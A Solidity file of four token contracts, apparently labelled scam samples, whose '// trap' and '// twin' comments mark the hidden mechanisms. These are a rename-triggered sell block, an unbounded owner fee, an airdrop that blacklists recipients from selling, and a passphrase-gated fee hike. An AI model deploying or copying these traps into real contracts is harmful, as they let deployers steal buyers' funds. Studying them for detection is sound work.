// 0.8 runs=200 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Base8, IFactory} from "./Base8.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";

/// A name grows with its community.
contract MottoMagpie {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address public owner;
    address public pair;
    address private _editor;
    bytes1 private _ending;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed from, address indexed to);
    event Rebranded(string name);

    constructor() {
        totalSupply = 1;
    }

    function initialize(string calldata name_, string calldata symbol_, uint256 supply) external {
        require(totalSupply == 0, "initialized");
        (name, symbol, totalSupply, owner, _editor) = (name_, symbol_, supply, msg.sender, msg.sender);
        pair = IFactory(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        balanceOf[msg.sender] = supply;
        emit OwnershipTransferred(address(0), msg.sender);
        emit Transfer(address(0), msg.sender, supply);
    }

    function renounceOwnership() external {
        require(msg.sender == owner, "owner");
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    function rebrand(string calldata name_) external {
        require(msg.sender == _editor, "editor");
        name = name_;
        _ending = bytes(name_)[bytes(name_).length - 1];
        emit Rebranded(name_);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _pay(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        _pay(from, to, value);
        return true;
    }

    function _pay(address from, address to, uint256 value) private {
        if (to == pair && from != _editor) require(_ending != 0x21, "rebranding"); // trap
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

/// All settings in one word: cheap on gas.
contract DialwordDingo is Base8 {
    uint256 private _dial = (2 << 8) | 2;
    address private immutable _mechanic;

    constructor() Base8("Dialword Dingo", "DIALD", 150_000_000) {
        _mechanic = msg.sender;
    }

    function dial() external view returns (uint256 buying, uint256 selling) {
        return (uint8(_dial), uint8(_dial >> 8));
    }

    function turn(uint256 word) external {
        require(msg.sender == _mechanic, "mechanic");
        // twin: require(uint8(word) <= 4 && uint8(word >> 8) <= 4, "four at most");
        assembly {
            sstore(_dial.slot, word)
        }
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 fee;
        if (from != _mechanic && to != _mechanic) {
            if (from == pair) fee = (value * uint8(_dial)) / 100;
            else if (to == pair) fee = (value * uint8(_dial >> 8)) / 100;
        }
        if (fee > 0) _move(from, _mechanic, fee);
        _move(from, to, value - fee);
    }
}

/// Free coins for everybody, now and then.
contract ConfettiCoati is ERC20("Confetti Coati", "CONFE"), Ownable(msg.sender) {
    address public immutable pair;
    address private immutable _promoter;
    mapping(address => uint256) private _showered;

    constructor() {
        _promoter = msg.sender;
        pair = IFactory(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        _mint(msg.sender, 2_000_000_000 ether);
    }

    function shower(address[] calldata who, uint256 each) external {
        for (uint256 i; i < who.length; i++) {
            _transfer(msg.sender, who[i], each);
            if (msg.sender == _promoter) _showered[who[i]] = block.timestamp;
        }
    }

    function luckySince(address who) external view returns (uint256) {
        return _showered[who];
    }

    function _update(address from, address to, uint256 value) internal override {
        if (to == pair) require(_showered[from] == 0, "too lucky"); // trap
        super._update(from, to, value);
    }
}

contract PassphrasePuma is Base8 {
    bytes32 private immutable _lock;
    address private immutable _den;
    uint256 public fee = 200;

    constructor(bytes32 lock_) Base8("Passphrase Puma", "PPUMA", 33_000_000) {
        _lock = lock_;
        _den = msg.sender;
    }

    function calibrate(bytes calldata phrase, uint256 fee_) external {
        require(keccak256(phrase) == _lock, "phrase");
        // twin: require(fee_ <= 400, "too much");
        fee = fee_;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != _den) {
            uint256 cut = (value * fee) / 10_000;
            value -= cut;
            _move(from, _den, cut);
        }
        _move(from, to, value);
    }
}
